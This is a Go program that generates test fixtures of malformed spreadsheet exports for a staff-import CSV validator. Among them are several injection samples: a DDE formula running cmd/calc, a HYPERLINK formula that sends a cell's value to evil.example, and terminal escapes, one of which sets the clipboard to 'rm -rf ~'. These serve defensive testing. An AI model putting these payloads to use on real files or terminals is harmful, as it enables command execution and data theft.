//go:build ignore

// generate writes the hostile-file corpus of testdata/hostile: the files
// support staff really bring (what Excel, LibreOffice and Google Sheets
// write, in the encodings and dialects they write it, and the mistakes
// people make), one per case of TestHostileFiles (hostile_test.go). Most
// are plain text and can be read as they are; this program is the record of
// how the binary ones (UTF-16, Windows-1252, the workbook, the image) were
// made. Run it from the repository root:
//
//	go run testdata/hostile/generate.go
package main

import (
	"archive/zip"
	"bytes"
	"image"
	"image/color"
	"image/png"
	"log"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"
)

const dir = "testdata/hostile"

// header is the coursedog template's header.
const header = "First Name,Last Name,Email,Products,Unique ID,Department,Secondary Departments,Role IDs"

func main() {
	files := map[string][]byte{}
	text := func(name, s string) { files[name] = []byte(s) }
	crlf := func(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") }
	semi := func(s string) string { return strings.ReplaceAll(s, ",", ";") }
	tabs := func(s string) string { return strings.ReplaceAll(s, ",", "\t") }

	// --- Excel and other spreadsheet exports ---------------------------

	// Excel "CSV UTF-8 (Comma delimited)": a BOM and CRLF.
	text("excel_csv_utf8_bom_crlf.csv", "\uFEFF"+crlf(header+"\n"+
		"Renée,Dubois,renee.dubois@example.edu,\"scheduling, events\",U1001,Mathematics,,\n"+
		"José,Núñez,jose.nunez@example.edu,curriculum,U1002,Physics,Mathematics,\n"+
		"Jürgen,Groß,juergen.gross@example.edu,catalog,U1003,Chemistry,,\n"))

	// Excel in a locale whose list separator is ";": lists need no quotes.
	text("excel_semicolon_bom_crlf.csv", "\uFEFF"+crlf(
		"First Name;Last Name;Email;Products;Unique ID;Department;Secondary Departments;Role IDs\n"+
			"Anna;Schmidt;anna.schmidt@example.edu;scheduling, events;U2001;Mathematics;;\n"+
			"Lukas;Becker;lukas.becker@example.edu;Course Demand Projections;U2002;Physics;;\n"+
			"Marie;Curie;marie.curie@example.edu;catalog;U2003;Chemistry;Physics;\n"))

	// Excel's "sep=;" first line, which names the delimiter.
	text("excel_sep_line.csv", crlf("sep=;\n"+semi(header)+"\n"+
		"Anna;Schmidt;anna.schmidt@example.edu;scheduling;U2001;Mathematics;;\n"+
		"Lukas;Becker;Lukas Becker <lukas.becker@example.edu>;events;U2002;Physics;;\n"))

	// Excel "Unicode Text": UTF-16LE with a BOM, tab-delimited, CRLF.
	files["excel_unicode_text_utf16le.txt"] = utf16(unicode.LittleEndian, crlf(tabs(header)+"\n"+
		"Begoña\tIbáñez\tbegona.ibanez@example.edu\t\"scheduling, events\"\tU3001\tMathematics\t\t\n"+
		"Heinz\tStraße\theinz.strasse@example.edu\tcatalog\tU3002\tPhysics\t\t\n"+
		"Zoë\tLefèvre\tBegona.Ibanez@Example.edu\tevents\tU3003\tChemistry\t\t\n"))

	// The same from a tool that writes UTF-16 big-endian.
	files["unicode_text_utf16be.txt"] = utf16(unicode.BigEndian, crlf(tabs(header)+"\n"+
		"Begoña\tIbáñez\tbegona.ibanez@example.edu\tscheduling\tU3001\tMathematics\t\t\n"+
		"Heinz\tStraße\theinz.strasse@example.edu\tcatalog\tU3002\tPhysics\t\t\n"))

	// UTF-16LE saved without a BOM.
	files["utf16le_no_bom.csv"] = utf16(unicode.LittleEndian, header+"\n"+
		"Begoña,Ibáñez,begona.ibanez@example.edu,scheduling,U3001,Mathematics,,\n")[2:]

	// Excel "CSV (Comma delimited)" on Windows: the ANSI code page.
	files["windows1252_excel.csv"] = win1252(crlf(header + "\n" +
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U4001,Mathematics,,\n" +
		"Renée,Dubois,renee.dubois@example.edu,\"scheduling, events\",U4002,Mathematics,,\n" +
		"Begoña,Ibáñez,begona.ibanez@example.edu,catalog,U4003,Physics,,\n" +
		"Jürgen,Groß,juergen.gross@example.edu,events,U4004,Chemistry,,\n"))

	// An ANSI file holding one of the five bytes Windows-1252 gives no
	// character (a byte of another code page, or a broken export).
	files["windows1252_undefined_bytes.csv"] = append(win1252(crlf(header+"\n"+
		"Zoë,O’Neil,zoe.oneil@example.edu,events,U4101,Mathematics,,\n")),
		"Ada,Love\x8dlace,ada.lovelace@example.edu,events,U4102,Mathematics,,\r\n"...)

	// German Excel, ANSI and semicolons, with a column named in German.
	files["windows1252_semicolon_german.csv"] = win1252(crlf(
		"First Name;Last Name;Email;Products;Straße\n" +
			"Jürgen;Müller;juergen.mueller@example.edu;scheduling;Hauptstraße 1\n" +
			"Björn;Weiß;bjoern.weiss@example.edu;events;Königsallee 2\n"))

	// A UTF-8 file (BOM and all) with rows pasted in from an ANSI export.
	files["utf8_bom_with_ansi_rows.csv"] = []byte("\uFEFF" + crlf(header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U5001,Mathematics,,\n"+
		"Renée,Dubois,renee.dubois@example.edu,events,U5002,Mathematics,,\n") +
		"Fran\xe7ois,Mart\xedn,fran\xe7ois.martin@example.edu,catalog,U5003,Physics,,\r\n")

	// Excel for Mac "CSV (Macintosh)": a lone CR ends each line.
	text("mac_cr_line_ends.csv", strings.ReplaceAll(header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U6001,Mathematics,,\n"+
		"Alan,Turing,alan.turing@example,events,U6002,Physics,,\n"+
		"Grace,Hopper,grace.hopper@example.edu,catalog,U6003,Mathematics,,\n", "\n", "\r"))

	// The same with a cell broken over two lines (Alt+Enter): Excel
	// keeps a line feed inside the cell while lines end with a CR.
	text("mac_cr_with_line_feed_in_cell.csv", strings.NewReplacer("\n", "\r", "\v", "\n").Replace(header+",Notes\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U6001,Mathematics,,,\"first line\vsecond line\"\n"+
		"Alan,Turing,alan.turing@example,events,U6002,Physics,,,\n"))

	// Tab-separated values from Google Sheets (Download > .tsv).
	text("google_sheets.tsv", tabs(header)+"\n"+
		"Ada\tLovelace\tada.lovelace@example.edu\tscheduling, curriculum\tU7001\tMathematics\t\t\n"+
		"Alan\tTuring\talan.turing@example.edu\tevents\tU7002\tPhysics\tMathematics\t\n")

	// LibreOffice with "Quote all text cells", no line end after the last row.
	text("libreoffice_quote_all.csv", `"First Name","Last Name","Email","Products","Unique ID","Department","Secondary Departments","Role IDs"`+"\n"+
		`"Ada","Lovelace","ada.lovelace@example.edu","scheduling","U7003","Mathematics","",""`+"\n"+
		`"Alan","Turing","alan.turing@example.edu","events, catalog","U7004","Physics","Mathematics",""`)

	// A pipe-delimited export from a reporting tool.
	text("pipe_delimited.csv", strings.ReplaceAll(header, ",", "|")+"\n"+
		"Ada|Lovelace|ada.lovelace@example.edu|scheduling, events|U7005|Mathematics||\n"+
		"Alan|Turing|alan.turing@example.edu|catalog|U7006|Physics||\n")

	// --- Rows that do not fit ------------------------------------------

	text("ragged_short_rows.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U8001,Mathematics,,\n"+
		"Alan,Turing,alan.turing@example.edu\n"+
		"Grace,Hopper,grace.hopper@example.edu,events\n")

	text("ragged_long_rows.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U8002,Mathematics,,\n"+
		"Martin,Luther King, Jr.,martin.king@example.edu,events,U8003,Physics,,\n"+
		"Grace,Hopper,grace.hopper@example.edu,catalog,U8004,Mathematics,,,,,\n")

	// Notes typed with Alt+Enter span lines; each row keeps the line it
	// starts on, and the rows after them are numbered by the file's lines.
	text("multiline_quoted_cells.csv", header+",Notes\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U8005,Mathematics,,,\"Prefers mail.\nOffice 2.14\nMon-Wed\"\n"+
		"Alan,\"Turing\",alan.turing@example.edu,\"scheduling\nevents\",U8006,Physics,,,\n"+
		"Grace,Hopper,grace hopper@example.edu,catalog,U8007,Mathematics,,,\"said \"\"hi\"\"\"\n")

	text("unclosed_quote.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U8008,Mathematics,,\n"+
		"Alan,\"Turing,alan.turing@example.edu,events,U8009,Physics,,\n"+
		"Grace,Hopper,grace.hopper@example.edu,catalog,U8010,Mathematics,,\n")

	text("text_after_closing_quote.csv", header+"\n"+
		"Ada,\"Lovelace\" (Countess),ada.lovelace@example.edu,scheduling,U8011,Mathematics,,\n"+
		"Miles,O\"Brien,miles.obrien@example.edu,events,U8012,Physics,,\n")

	// Blank lines and Excel's rows of empty cells, inside and at the end.
	text("blank_lines_and_empty_rows.csv", crlf(header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U8013,Mathematics,,\n"+
		"\n"+
		"Alan,Turing,alan.turing@example.edu,events,U8014,Physics,,\n"+
		",,,,,,,\n"+
		"Grace,Hopper,grace.hopper@example.edu,catalog,U8015,Mathematics,,\n"+
		"\n\n,,,,,,,\n,,,,,,,\n\n"))

	text("whitespace_around_values.csv", header+"\n"+
		" Ada ,Lovelace\t,  ada.lovelace@example.edu ,scheduling,U8016,Mathematics,,\n"+
		"Alan,   ,alan.turing@example.edu,\" events , catalog \",U8017,Physics,,\n"+
		"Grace,Hopper,grace.hopper@example.edu\u00a0,catalog,U8018,Mathematics,,\n")

	// Excel exports its used range: hundreds of empty columns when
	// formatting reached past the data.
	pad := strings.Repeat(",", 250)
	text("excel_trailing_empty_columns.csv", crlf(header+pad+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U8020,Mathematics,,"+pad+"\n"+
		"Alan,Turing,alan.turing@example.edu,events,U8021,Physics,,"+pad+"\n"))

	// Two Excel exports joined with cat: the second header, BOM and all,
	// is a row.
	text("two_exports_joined.csv", "\uFEFF"+crlf(header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U8022,Mathematics,,\n")+"\uFEFF"+crlf(header+"\n"+
		"Alan,Turing,alan.turing@example.edu,events,U8023,Physics,,\n"))

	// Long numeric IDs in a General column: Excel shows and saves them
	// shortened.
	text("excel_ids_shortened.csv", crlf(header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,1.00235E+11,Mathematics,,\n"+
		"Alan,Turing,alan.turing@example.edu,events,100234567891,Physics,,\n"))

	// A report with a title line above the header.
	text("title_line_above_header.csv", "Staff export 2024-05-01,,,,,,,\n"+header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U8019,Mathematics,,\n")

	// --- Headers --------------------------------------------------------

	text("duplicate_email_columns.csv", "First Name,Last Name,Email,Products,E-mail\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,ada@home.example\n")

	text("duplicate_unknown_headers.csv", "First Name,Last Name,Email,Products,Notes,notes\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,first,second\n")

	text("missing_products_column.csv", "First Name,Last Name,Email,Unique ID,Department\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,U9001,Mathematics\n")

	text("wrong_file_course_list.csv", "Course Code,Title,Credits,Instructor\n"+
		"MATH101,Calculus I,4,Ada Lovelace\n")

	text("headers_odd_case_and_spacing.csv", " FIRST NAME ,last_name,E-MAIL,products,unique-id,DEPARTMENT,secondary_departments,role ids\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U9002,Mathematics,,\n")

	text("headers_aliases.csv", "Given Name,Surname,Email Address,Product Keys,Employee ID,Primary Department,Other Departments,Roles\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U9003,Mathematics,Physics,\n")

	text("unknown_columns_kept.csv", "First Name,Last Name,Phone,Email,Products,Title,Office\n"+
		"Ada,Lovelace,+44 20 7946 0018,ada.lovelace@example.edu,scheduling,Countess,2.14\n"+
		"Alan,Turing,+44 161 496 0000,alan.turing@example.edu,events,Dr,1.01\n")

	text("unnamed_columns.csv", "First Name,Last Name,,Email,Products\n"+
		"Ada,Lovelace,x,ada.lovelace@example.edu,scheduling\n")

	// A French export; validate reads it with --map.
	text("localized_french_headers.csv", "\uFEFF"+crlf("Prénom;Nom;Courriel;Produits;Service\n"+
		"Amélie;Poulain;amelie.poulain@example.edu;scheduling;Mathematics\n"))

	// A template whose headers were quoted and marked required with "*".
	text("header_quoted_with_asterisks.csv", "\uFEFF"+`"First Name*","Last Name*","Email*","Products*","Unique ID","Department","Secondary Departments","Role IDs"`+"\r\n"+
		`"Ada","Lovelace","ada.lovelace@example.edu","scheduling","U9004","Mathematics","",""`+"\r\n")

	// --- Formulas ---------------------------------------------------------

	text("formulas_in_cells.csv", header+",Phone\n"+
		"=cmd|' /C calc'!A0,Lovelace,ada.lovelace@example.edu,scheduling,@SUM(1+1)*cmd|' /C calc'!A0,Mathematics,,,+44 20 7946 0018\n"+
		"Alan,-Turing,-alan@example.edu,events,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",Physics,,,-1\n"+
		"Grace,Hopper,+grace@example.edu,catalog,U9005,Mathematics,,,=1+2\n")

	// --- Not a user file, or nothing in it ---------------------------------

	text("empty.csv", "")
	text("bom_only.csv", "\uFEFF")
	text("only_blank_lines.csv", "\r\n\r\n   \r\n\t\r\n")
	text("header_only.csv", header+"\r\n")
	text("header_and_empty_rows.csv", crlf(header+"\n,,,,,,,\n,,,,,,,\n,,,,,,,\n"))
	text("cell_over_1mib.csv", header+",Notes\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U9006,Mathematics,,,short\n"+
		"Alan,Turing,alan.turing@example.edu,events,U9007,Physics,,,"+strings.Repeat("A", 1<<20+1)+"\n")
	files["png_image.csv"] = pngImage()
	files["xlsx_renamed.csv"] = xlsx()
	files["xls_renamed.csv"] = xls()
	// A file cut off by a crash: the tail of the last block is zeros.
	files["nul_bytes_after_crash.csv"] = append([]byte(header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,U9008,Mathematics,,\n"+
		"Alan,Turing,alan.tur"), make([]byte, 64)...)
	text("html_error_page.csv", "<!DOCTYPE html>\n<html><head><title>Sign in</title></head>\n<body><p>Your session expired.</p></body></html>\n")

	// --- Emails -------------------------------------------------------------

	text("emails_display_names.csv", header+"\n"+
		"Ada,Lovelace,Ada Lovelace <ada.lovelace@example.edu>,scheduling,,,,\n"+
		"Grace,Hopper,\"\"\"Hopper, Grace\"\" <grace.hopper@example.edu>\",events,,,,\n"+
		"Alan,Turing,mailto:alan.turing@example.edu,catalog,,,,\n"+
		"Edsger,Dijkstra,<edsger.dijkstra@example.edu>,catalog,,,,\n")

	text("emails_spaces_and_dots.csv", header+"\n"+
		"Ada,Lovelace,ada lovelace@example.edu,scheduling,,,,\n"+
		"Grace,Hopper,grace.hopper@example.edu.,events,,,,\n"+
		"Alan,Turing,\"alan.turing@example,edu\",catalog,,,,\n"+
		"Barbara,Liskov,barbara.liskov@example..edu,catalog,,,,\n"+
		"Ken,Thompson,ken@@example.edu,catalog,,,,\n"+
		"Dennis,Ritchie,dennis.ritchie@example,catalog,,,,\n"+
		"Linus,Torvalds,linus.@example.edu,catalog,,,,\n"+
		"Margaret,Hamilton,margaret\u00a0hamilton@example.edu,catalog,,,,\n"+
		"Donald,Knuth,donald.knuth\u200b@example.edu,catalog,,,,\n"+
		"Frances,Allen,\u201cfrances.allen@example.edu\u201d,catalog,,,,\n"+
		"Adèle,Goldberg,adèle.goldberg@exämple.edu,catalog,,,,\n")

	text("emails_duplicates_across_case.csv", header+",Notes\n"+
		"Ada,Lovelace,Ada.Lovelace@Example.edu,scheduling,U9101,,,,\n"+
		"Alan,Turing,alan.turing@example.edu,events,U9102,,,,\"two\nlines\"\n"+
		"Ada,King,ada.lovelace@example.edu ,events,U9103,,,,\n"+
		"Grace,Hopper,grace.hopper@example.edu,catalog,U9104,,,,\n"+
		"A.,Lovelace,ADA.LOVELACE@EXAMPLE.EDU,catalog,U9105,,,,\n"+
		"Alan,Turing,Alan.Turing@example.edu,events,U9106,,,,\n")

	// Addresses copied out of a mail program.
	text("emails_copied_from_mail.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu;,scheduling,,,,\n"+
		"Grace,Hopper,'grace.hopper@example.edu',events,,,,\n"+
		"Alan,Turing,\"alan.turing@example.edu, alan@example.org\",catalog,,,,\n"+
		"Edsger,Dijkstra,Edsger Dijkstra <edsger.dijkstra@example.edu>;,catalog,,,,\n")

	text("emails_missing.csv", header+"\n"+
		"Ada,Lovelace,,scheduling,U9201,,,\n"+
		",,,,U9202,,,\n")

	// --- Products, roles, departments ------------------------------------

	text("products_display_names.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,Course Demand Projections,,,,\n"+
		"Alan,Turing,alan.turing@example.edu,\"Scheduling, CURRICULUM\",,,,\n"+
		"Grace,Hopper,grace.hopper@example.edu,course demand projection,,,,\n"+
		"Edsger,Dijkstra,edsger.dijkstra@example.edu,\"Syllabi, curriculm\",,,,\n"+
		"Barbara,Liskov,barbara.liskov@example.edu,billing,,,,\n"+
		"Ken,Thompson,ken.thompson@example.edu,events;catalog,,,,\n")

	// Validated with the school's roles and departments known.
	text("roles_names_for_ids.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,,,,Super Admin\n"+
		"Alan,Turing,alan.turing@example.edu,scheduling,,,,\"r-6f1e2d93, Faculty\"\n"+
		"Grace,Hopper,grace.hopper@example.edu,scheduling,,,,Advisor\n"+
		"Edsger,Dijkstra,edsger.dijkstra@example.edu,scheduling,,,,r-99999999\n"+
		"Barbara,Liskov,barbara.liskov@example.edu,scheduling,,,,Facutly\n"+
		"Ken,Thompson,ken.thompson@example.edu,scheduling,,,,\"r-0a1b2c3d, r-2b8e4d10\"\n")

	text("two_primary_departments.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,,\"Mathematics, Physics\",,\n"+
		"Alan,Turing,alan.turing@example.edu,events,,Mathematics,\"Physics, mathematics\",\n")

	text("departments_known.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,,MATH,,\n"+
		"Alan,Turing,alan.turing@example.edu,events,,Mathmatics,PHYS,\n"+
		"Grace,Hopper,grace.hopper@example.edu,catalog,,Astrology,,\n"+
		"Ken,Thompson,ken.thompson@example.edu,catalog,,\"Languages, Literatures and Cultures\",Physics,\n")

	// --- Hostile bytes: text that steers a terminal or hides -------------

	// OSC 52 sets the terminal's clipboard (here to "rm -rf ~"); OSC 0
	// retitles the window; ESC[2J clears the screen; BEL and BS.
	text("terminal_escapes_in_names.csv", header+"\n"+
		"Ada\x1b]52;c;cm0gLXJmIH4=\x07,Lovelace,ada.lovelace@example.edu,scheduling,,,,\n"+
		"Alan,Turing\x1b[2J\x1b[H,alan.turing@example.edu,events,,,,\n"+
		"Grace\x1b]0;pwned\x07,Hopper,grace.hopper@example.edu,catalog,,,,\n"+
		"Ken,Thomp\x07son\x08\x08,ken.thompson@example.edu,catalog,,,,\n"+
		"Edsger,Dijkstra,edsger.dijkstra@example.edu,catalog,,,,\n")

	// A right-to-left override shows "Lovelace" for "ecalevoL"; isolates
	// and C1 controls (CSI as one character, U+009B) and DEL.
	text("bidi_and_c1_controls.csv", header+"\n"+
		"Ada,\u202eecalevoL,ada.lovelace@example.edu,scheduling,,,,\n"+
		"Alan,Turing,alan.turing@example.edu,events,U\u20661001\u2069,,,\n"+
		"Grace\u009b2J,Hopper,grace.hopper@example.edu,catalog,,,,\n"+
		"Ken,Thompson\x7f,ken.thompson@example.edu,catalog,,,,\n"+
		"Edsger,Dijkstra,ude.elpmaxe@artskjid.regsde\u202e,catalog,,,,\n")

	// Zero-width characters: a warning in names, an error in emails.
	text("zero_width_characters.csv", header+"\n"+
		"Ada\u200b,Lovelace,ada.lovelace@example.edu,scheduling,,,,\n"+
		"Alan,Tur\ufeffing,alan.turing@example.edu,events,,,,\n"+
		"Grace,Hopper,grace\u2060.hopper@example.edu,catalog,,,,\n")

	// Escapes in the header and in the mapping file beside the file.
	text("escapes_in_headers.csv", "First Name,Last Name,Email,Products,Notes\x1b]0;x\x07\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,hello\n")
	text("escapes_in_headers.csv.mapping", "# a mapping someone sent\n"+
		"Given\x1b[2J=First Name\n")

	// Fifty misspelt keys in one cell: five explained, the rest counted.
	var keys []string
	for i := range 50 {
		keys = append(keys, "schedulng"+strconv.Itoa(i))
	}
	text("products_many_misspelt.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,\""+strings.Join(keys, ",")+"\",,,,\n")

	// Random bytes named .csv: binary from the first bytes.
	rnd := make([]byte, 8192)
	for i, x := 0, uint32(2463534242); i < len(rnd); i++ { // xorshift: the same bytes every run
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		rnd[i] = byte(x)
	}
	files["random_bytes.csv"] = rnd

	// A lone CR in a file of LF line ends runs two rows into one.
	text("lone_cr_mid_file.csv", header+"\n"+
		"Ada,Lovelace,ada.lovelace@example.edu,scheduling,,,,\rAlan,Turing,alan.turing@example.edu,events,,,,\n"+
		"Grace,Hopper,grace.hopper@example.edu,catalog,,,,\n")

	// UTF-32, which no spreadsheet writes but some tools do.
	files["utf32le_bom.csv"] = utf32LE("\uFEFF" + header + "\nAda,Lovelace,ada.lovelace@example.edu,scheduling,,,,\n")

	// UTF-16 cut short in the middle of a character (an odd byte count),
	// and UTF-16 with half of a surrogate pair on line 3.
	files["utf16le_cut_mid_character.csv"] = append(utf16(unicode.LittleEndian, header+"\n"+
		"Begoña,Ibáñez,begona.ibanez@example.edu,scheduling,,,,\nB"), 0x6f)
	half := utf16(unicode.LittleEndian, header+"\n"+
		"Begoña,Ibáñez,begona.ibanez@example.edu,scheduling,,,,\nBob")
	files["utf16le_half_surrogate.csv"] = append(half, 0x3d, 0xd8, ',', 0, '\n', 0)

	// The ccai JSON template given to coursedog.
	text("json_array_as_csv.csv", "[\n  {\"email\": \"ada.lovelace@example.edu\", \"first_name\": \"Ada\"}\n]\n")

	for name, data := range files {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			log.Fatal(err)
		}
	}
}

// utf32LE writes s as UTF-32 little-endian.
func utf32LE(s string) []byte {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8), byte(r>>16), byte(r>>24))
	}
	return b
}

func utf16(order unicode.Endianness, s string) []byte {
	b, err := unicode.UTF16(order, unicode.UseBOM).NewEncoder().Bytes([]byte(s))
	if err != nil {
		log.Fatal(err)
	}
	return b
}

func win1252(s string) []byte {
	b, err := charmap.Windows1252.NewEncoder().Bytes([]byte(s))
	if err != nil {
		log.Fatal(err)
	}
	return b
}

// pngImage is a small screenshot-sized PNG.
func pngImage() []byte {
	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
	for x := range 16 {
		img.Set(x, x, color.RGBA{200, 30, 30, 255})
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

// xlsx is a minimal workbook with one sheet of two users, as Excel
// would open it: an .xlsx is a zip of XML parts.
func xlsx() []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	parts := []struct{ name, body string }{
		{"[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`},
		{"_rels/.rels", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Users" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`},
		{"xl/worksheets/sheet1.xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` +
			`<row r="1"><c r="A1" t="inlineStr"><is><t>First Name</t></is></c><c r="B1" t="inlineStr"><is><t>Last Name</t></is></c><c r="C1" t="inlineStr"><is><t>Email</t></is></c><c r="D1" t="inlineStr"><is><t>Products</t></is></c></row>` +
			`<row r="2"><c r="A2" t="inlineStr"><is><t>Ada</t></is></c><c r="B2" t="inlineStr"><is><t>Lovelace</t></is></c><c r="C2" t="inlineStr"><is><t>ada.lovelace@example.edu</t></is></c><c r="D2" t="inlineStr"><is><t>scheduling</t></is></c></row>` +
			`</sheetData></worksheet>`},
	}
	for _, p := range parts {
		w, err := z.Create(p.name)
		if err != nil {
			log.Fatal(err)
		}
		w.Write([]byte(p.body))
	}
	if err := z.Close(); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

// xls is the start of an Excel 97-2003 workbook: the header sector of a
// compound document (its signature, version and byte order), then a
// sector of the workbook stream.
func xls() []byte {
	b := make([]byte, 1024)
	copy(b, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")
	copy(b[24:], "\x3E\x00\x03\x00\xFE\xFF\x09\x00\x06\x00")
	copy(b[512:], "\x09\x08\x10\x00\x00\x06\x05\x00")
	return b
}
